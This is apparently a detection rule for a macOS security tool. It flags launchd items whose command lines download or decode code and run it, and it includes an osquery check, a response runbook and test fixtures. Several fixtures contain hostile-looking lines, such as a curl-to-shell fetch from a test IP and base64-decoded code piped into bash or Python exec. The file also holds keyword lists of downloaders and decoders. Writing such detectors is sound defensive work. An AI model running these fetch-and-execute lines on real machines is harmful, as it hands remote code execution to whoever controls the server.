import { commandsOf, isProgram } from '../../src/detect/reading/command.ts'
import { runsOutputOf } from '../../src/detect/reading/command-flow.ts'
import { isGivenCode } from '../../src/detect/reading/interpreters.ts'
import { rule, table } from '../../src/detect/rule.ts'

const DOWNLOADERS = ['curl', 'wget', 'nscurl'] as const
const DECODERS = ['base64', 'openssl', 'xxd', 'gunzip', 'funzip'] as const
/** Interpreters that macOS or its developer tools bring along. */
const INTERPRETERS = ['python', 'perl', 'ruby', 'php', 'node', 'osascript'] as const
/** In code that stands on a command line: it unpacks or fetches what it runs. */
const UNPACKS = [
  'base64',
  'b64decode',
  'exec(',
  'eval(',
  'urlopen',
  'urllib',
  'socket.socket',
  'frombase64string',
  'marshal.loads',
] as const

export default rule({
  id: 'macos.launch-item-with-inline-code',
  title: 'Launch item fetches or unpacks the code it runs',
  severity: 'high',
  on: table('launchd'),
  attack: ['T1543.001', 'T1543.004', 'T1059.004', 'T1027.010'],
  means:
    'launchd starts an interpreter with code on its command line that downloads or decodes more code and runs it. Nothing that can be looked at lies on the disk, and whoever owns the server decides at each start what runs.',
  check:
    "SELECT path, label, program, program_arguments, run_at_load, start_interval, keep_alive, username FROM launchd WHERE path NOT LIKE '/System/%';",
  benign:
    'A home-made job of an administrator that updates itself from an own server. A job that only fetches (a ping to a monitor) or only decodes is left out.',
  detect: ({ columns }) => fetchesOrUnpacks(columns.program_arguments),
  alertTitle: ({ host, columns }) =>
    `Launch item ${columns.label || columns.name} on ${host} runs code it fetches or unpacks: ${columns.program_arguments}`,
  dedup: ({ hostId, columns }) => `${hostId} ${columns.path}`,
  context: ({ columns }) => ({
    item: columns.path,
    label: columns.label,
    program: columns.program,
    arguments: columns.program_arguments,
    runAtLoad: columns.run_at_load,
    user: columns.username,
  }),
  runbook:
    'Decode the code or fetch it from a safe machine to see what it does. Take the plist down with its times and owner; find what wrote it (downloads, shell_history and installers around its birth). If it is not an administrator’s: isolate the Mac, launchctl bootout the item, and block the address.',
  references: [
    'https://attack.mitre.org/techniques/T1543/001/',
    'https://attack.mitre.org/techniques/T1059/004/',
  ],
  tests: [
    {
      name: 'a download straight into a shell',
      match: true,
      columns: {
        path: '/Users/ada/Library/LaunchAgents/com.example.a.plist',
        name: 'com.example.a.plist',
        label: 'com.example.a',
        program_arguments: '/bin/sh -c curl -s http://192.0.2.7/a | sh',
        run_at_load: 'true',
      },
      title:
        'Launch item com.example.a on test-host runs code it fetches or unpacks: /bin/sh -c curl -s http://192.0.2.7/a | sh',
      dedup: 'test-host-id /Users/ada/Library/LaunchAgents/com.example.a.plist',
      severity: 'high',
    },
    {
      name: 'decoded into a shell',
      match: true,
      columns: { program_arguments: '/bin/bash -c echo Y3VybA== | base64 -D | bash' },
    },
    {
      name: 'Python that unpacks itself',
      match: true,
      columns: {
        program_arguments: "/usr/bin/python3 -c import base64;exec(base64.b64decode('aW1wb3J0IHN5cw=='))",
      },
    },
    {
      name: 'Perl that opens a socket',
      match: true,
      columns: { program_arguments: "perl -e eval(unpack('u',$x))" },
    },
    {
      name: 'a ping to a monitor',
      match: false,
      columns: { program_arguments: '/usr/bin/curl -fsS https://monitor.example.com/ping/1' },
    },
    {
      name: 'a shell that starts a script',
      match: false,
      columns: { program_arguments: '/bin/sh -c /Applications/Example.app/Contents/Resources/start.sh' },
    },
    {
      name: 'a shell that waits for a volume',
      match: false,
      columns: {
        program_arguments: '/bin/sh -c /bin/wait4path /nix/store && exec /nix/store/abc-daemon/bin/daemon',
      },
    },
    {
      name: 'a backup that encodes what it keeps',
      match: false,
      columns: { program_arguments: '/bin/sh -c tar c /srv | base64 > /Volumes/Backup/srv' },
    },
    {
      name: 'a script of one’s own',
      match: false,
      columns: { program_arguments: '/usr/bin/python3 /usr/local/bin/base64-report.py' },
    },
    {
      name: 'remaps keys',
      match: false,
      columns: { program_arguments: '/usr/bin/hidutil property --set {"UserKeyMapping":[]}' },
    },
    {
      name: 'the item is gone',
      match: false,
      action: 'removed',
      columns: { program_arguments: '/bin/sh -c curl -s http://192.0.2.7/a | sh' },
    },
  ],
})

function fetchesOrUnpacks(line: string): boolean {
  if (runsOutputOf(line, ...DOWNLOADERS, ...DECODERS)) return true
  return commandsOf(line).some(
    command =>
      isProgram(command, ...INTERPRETERS) && isGivenCode(command.program, command.args) && unpacks(line),
  )
}

function unpacks(line: string): boolean {
  const text = line.toLowerCase()
  return UNPACKS.some(sign => text.includes(sign))
}
